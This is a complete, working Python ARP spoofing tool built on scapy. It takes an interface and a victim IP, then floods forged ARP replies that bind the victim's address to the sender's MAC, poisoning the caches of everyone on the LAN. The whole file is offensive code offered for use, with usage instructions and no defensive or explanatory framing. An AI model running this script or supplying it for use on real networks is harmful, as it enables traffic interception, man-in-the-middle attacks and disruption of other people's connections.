"""An ARP spoofer (scapy): broadcasts "VICTIM_IP is-at <my MAC>" every INTERVAL seconds, the way
arpspoof poisons a LAN's caches. Usage: python arp_spoofer.py IFACE VICTIM_IP [INTERVAL]
"""

from __future__ import annotations

import sys
import time

from scapy.arch import get_if_hwaddr
from scapy.config import conf
from scapy.layers.l2 import ARP, Ether


def main() -> None:
    iface, victim = sys.argv[1], sys.argv[2]
    interval = float(sys.argv[3]) if len(sys.argv) > 3 else 0.3
    mac = get_if_hwaddr(iface)
    frame = Ether(src=mac, dst="ff:ff:ff:ff:ff:ff") / ARP(
        op=2, hwsrc=mac, psrc=victim, hwdst="ff:ff:ff:ff:ff:ff", pdst=victim
    )
    sock = conf.L2socket(iface=iface)
    print("ready", flush=True)
    while True:
        sock.send(frame)
        time.sleep(interval)


if __name__ == "__main__":
    main()
